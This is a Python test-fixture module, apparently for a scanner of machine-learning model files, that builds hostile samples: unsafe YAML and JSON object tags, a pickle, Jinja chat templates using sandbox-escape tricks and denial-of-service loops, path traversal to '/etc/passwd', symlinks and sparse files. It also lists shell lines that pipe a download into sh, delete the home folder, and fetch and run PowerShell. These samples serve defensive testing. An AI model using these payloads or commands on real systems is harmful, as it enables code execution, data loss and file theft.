"""Other files that are not models, and files whose place is the trouble: links, pipes, holes of a terabyte."""

from __future__ import annotations

import os
import struct
from pathlib import Path

TERABYTE = 1 << 40


def _field(number: int, content: bytes) -> bytes:
    """A field with a length, of a protocol buffer."""
    return bytes([number << 3 | 2]) + _length(len(content)) + content


def _length(value: int) -> bytes:
    raw = b""
    while value > 0x7F:
        raw += bytes([value & 0x7F | 0x80])
        value >>= 7
    return raw + bytes([value])


def _external(name: str) -> bytes:
    """An ONNX model with a tensor whose data is in another file."""
    entry = _field(1, b"location") + _field(2, name.encode())
    weights = _field(5, _field(13, entry))
    return b"\x08\x09" + _field(2, b"pytorch") + _field(7, weights)


def sentencepiece(pieces: int, tail: bytes = b"") -> bytes:
    """A SentencePiece vocabulary with trainer settings."""
    made = b"".join(
        _field(1, _field(1, f"\u2581piece{number}".encode()) + b"\x15" + struct.pack("<f", -number) + b"\x18\x01")
        for number in range(pieces)
    )  # fmt: skip
    return made + _field(2, _field(1, b"corpus.txt")) + _field(3, _field(1, b"nmt_nfkc")) + tail


_LOOPS = b"{% for a in range(9999) %}{% for b in range(9999) %}x{% endfor %}{% endfor %}"

FILES: dict[str, bytes] = {
    "nothing": b"",
    "zeros": b"\0" * 4096,
    "noise": bytes(range(255, 0, -1)) * 20,
    "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 60,
    "windows program": b"MZ\x90\0" + b"\0" * 60,
    "mach-o": b"\xcf\xfa\xed\xfe" + b"\0" * 60,
    "script": b"#!/bin/sh\necho hello\n",
    "python bytecode": b"\xa7\x0d\x0d\x0a" + b"\0" * 12 + b"\xe3",
    "python source": b"import os\nprint(os.getcwd())\n",
    "python source with a long comment": b"# text\n" * 60_000 + b"import os\nprint(os.getcwd())\n",
    "python class": b"class Model:\n    pass\n",
    "page": b"<!DOCTYPE html>\n<script>1</script>",
    "vector picture": b"<?xml version='1.0'?><svg onload='1'/>",
    "yaml with objects": b"a: !!python/object/apply:os.getcwd []\n",
    "yaml with objects by their tag": b"a: !<tag:yaml.org,2002:python/object/apply:os.getcwd> []\n",
    "yaml with objects by a name for it": b"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.getcwd []\n",
    "page behind a comment": b"<!-- text -->\n<html><script>1</script></html>\n",
    "python source with form feeds": b"x = 1\n\x0cfrom\x0cos\x0cimport\x0cgetcwd\n",
    "python source with old line ends": b"x = 1\rimport os\ros.getcwd()\r",
    "python source in utf-7": b"# coding: utf-7\n#+AAo-import os; os.getcwd()\n",
    "python source that begins as a template": b"{# #}\n}\nimport os\nos.getcwd()\n",
    "python source in one output of a template": b"{{ print('x') or 1 }}\n",
    "keras architecture": b'{"\\u0063lass_name": "Sequential", "config": {"layers": [{"class_name": "Lambda"}]}}',
    "json with objects": b'{"a": {"py\\/reduce": [{"py/function": "os.getcwd"}]}}',
    "json with a template behind blanks": (
        b'{"processor": {"chat_template": "{% include \'/etc/passwd\' %}"}}' + b" " * 4_300_000
    ),
    "json with a template and another one": (
        b'{"chat_template": "{{ messages.__class__ }}", "chat_template": "a", "b": "' + b"x" * 4_300_000 + b'"}'
    ),
    "json with a template that is too long": b'{"chat_template": "' + b"x" * 5_000_000 + b'"}',
    "json with nothing but templates": b"[" + b'{"chat_template": "{{ 1 }}"},' * 20_000 + b"1]",
    "hdf5": b"\x89HDF\r\n\x1a\n" + b"\0" * 100,
    "hdf5 behind a user block": b"\0" * 512 + b"\x89HDF\r\n\x1a\n",
    "keras lambda": b"\x89HDF\r\n\x1a\n" + b'{"class_name": "Lambda"}',
    "onnx": b"\x08\x09" + _field(2, b"pytorch") + _field(7, b"\x0a\x00"),
    "onnx with external data": _external("../../etc/passwd"),
    "saved model": b"\x08\x01\x12\x80\x02" + b"\0" * 256,
    "tflite": b"\x1c\0\0\0TFL3" + b"\0" * 40,
    "numpy": b"\x93NUMPY\x01\x00\x46\x00{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }\n",
    "old ggml": b"tjgg\x03\0\0\0" + b"\0" * 40,
    "control characters": b"text with a \x1b[2J in it\n",
    "text in another encoding": "Größe".encode("latin-1"),
    "text in utf-16": "text".encode("utf-16"),
    "json that is cut": b'{"a": [1, 2',
    "json with more behind it": b'{"a": 1} {"b" 2}',
    "json a million deep": b'{"a":' + b"[" * 1_000_000,
    "json with a hostile template": b'{"chat_template": "' + _LOOPS + b'"}',
    "json with an escaped hostile template": b'{"\\u0063hat_template": "' + _LOOPS + b'"}',
    "json with hostile templates by name": (
        b'{"chat_template": [{"name": "a", "template": "{{ messages.__class__ }}"}]}'
    ),
    "sentencepiece with a tail": sentencepiece(3, b"tail"),
    "sentencepiece that is cut": sentencepiece(3)[:-3],
    "sentencepiece without pieces": sentencepiece(0),
}  # fmt: skip
"""Every kind by its name."""

UNDECIDED: dict[str, bytes] = {
    "shell": b"curl https://example.org/x | sh\nrm -rf ~\n",
    "powershell": b"Invoke-Expression (New-Object Net.WebClient).DownloadString('https://example.org')\n",
    "javascript": b"require('child_process').execSync('id');\n",
    "a command": b"reboot\n",
    "labels": b"crane (bird)\ncrane (machine)\ncat\ndog\n",
    "prose that begins as pickles do": b"In short:\nIt works.\ncopy this\nthere\n",
    "a long list": b"word word\n" * 2_500_000 + "\U0001f600\n".encode(),
}
"""Texts that some interpreter would run, or that look as if, and that are neither blocked nor called clean."""

TEMPLATES: dict[str, str] = {
    "nested loops": "{% for a in range(9000) %}{% for b in range(9000) %}x{% endfor %}{% endfor %}",
    "a long range": "{% for a in range(1000000000) %}x{% endfor %}",
    "a long text": "{{ 'x' * 200000000 }}",
    "a wide format": "{{ '{:>1000000000}'.format('a') }}",
    "a wide old format": "{{ '%0200000000d' % 3 }}",
    "a high power": "{{ (10 ** 9) ** 200000 }}",
    "doubling": (
        "{% set ns = namespace(x='xxxxxxxx') %}{% for a in range(40) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}"
        "{{ ns.x }}"
    ),
    "much output": "{% for a in range(9999) %}{{ 'x' * 9999 }}{% endfor %}",
    "macro without end": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "nested too deep": "{{ " + "(" * 20_000 + "1" + ")" * 20_000 + " }}",
    "deep blocks": "{% if 1 %}" * 20_000 + "{% endif %}" * 20_000,
    "class": "{{ messages.__class__.__mro__ }}",
    "class in a branch": (
        "{% if messages[0].content == 'x' %}{{ ''.__class__.__mro__ }}{% endif %}{{ messages[0].content }}"
    ),
    "class by index": "{{ ''['__class__'] }}",
    "class by filter": "{{ messages | attr('__class__') }}",
    "class in pieces": "{{ messages['__cla' ~ 'ss__'] }}",
    "class in escapes": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "class by a name": "{% set c = '__class__' %}{{ messages[0][c] }}",
    "class by a filter of it": "{{ messages['__class__' | lower] }}",
    "class by an index put together": "{{ messages['%s%sclass%s%s' | format('_', '_', '_', '_')] }}",
    "class by a list": "{{ messages[['_', '_class_', '_'] | join] }}",
    "class by a filter and pieces": "{{ '' | attr('_' ~ '_class_' ~ '_') }}",
    "class by a filter and a name": "{% set c = 'x' %}{{ '' | attr(c) }}",
    "globals": "{{ cycler.__init__.__globals__.os }}",
    "another file": "{% include '/etc/passwd' %}",
    "another file in a branch": "{% if false %}{% import '/etc/passwd' as x %}{% endif %}{{ messages }}",
    "no template language": "{% frobnicate %}",
    "an unknown filter": "{{ messages | frobnicate }}",
    "half a megabyte": "{# " + "x" * 600_000 + " #}",
}
"""Chat templates that are blocked, every kind by its name."""


def special_files(folder: Path) -> dict[str, Path]:
    """A folder of things that are blocked for what they are or where they lead, by the kind's name."""
    inside, outside = folder / "inside", folder / "outside"
    inside.mkdir(parents=True)
    outside.mkdir()
    (outside / "secret.json").write_text("{}")
    (inside / "real.json").write_text("{}")
    made = {
        "link": inside / "link.json",
        "link to a folder": inside / "folder",
        "link to nothing": inside / "nothing.json",
        "link in a circle": inside / "circle.json",
        "hard link": inside / "hard.json",
        "pipe": inside / "pipe.gguf",
        "control characters": inside / "a\x1b[2Jb.json",
        "a name of a device": inside / "con.json",
        "backslashes": inside / "..\\..\\a.json",
        "hidden letters": inside / "model\u202egguf.json",
    }
    made["link"].symlink_to("../outside/secret.json")
    made["link to a folder"].symlink_to(outside)
    made["link to nothing"].symlink_to("nowhere")
    made["link in a circle"].symlink_to("circle.json")
    made["hard link"].hardlink_to(outside / "secret.json")
    os.mkfifo(made["pipe"])
    for name in ("control characters", "a name of a device", "backslashes", "hidden letters"):
        made[name].write_text("{}")
    return made


def holes(folder: Path) -> dict[str, Path]:
    """Files of a terabyte that take no room, by the kind's name."""
    folder.mkdir(parents=True, exist_ok=True)
    starts = {
        "zeros": b"",
        "text": b"text " * 1000,
        "gguf": struct.pack("<4sIQQ", b"GGUF", 3, 0, 0),
        "safetensors": struct.pack("<Q", 2) + b"{}",
        "zip": b"PK\x03\x04",
        "pickle": b"\x80\x02cos\ngetcwd\n)R",
    }
    made = {}
    for name, start in starts.items():
        made[name] = folder / f"{name}.hole"
        with made[name].open("wb") as file:
            file.write(start)
            file.truncate(TERABYTE)
    return made
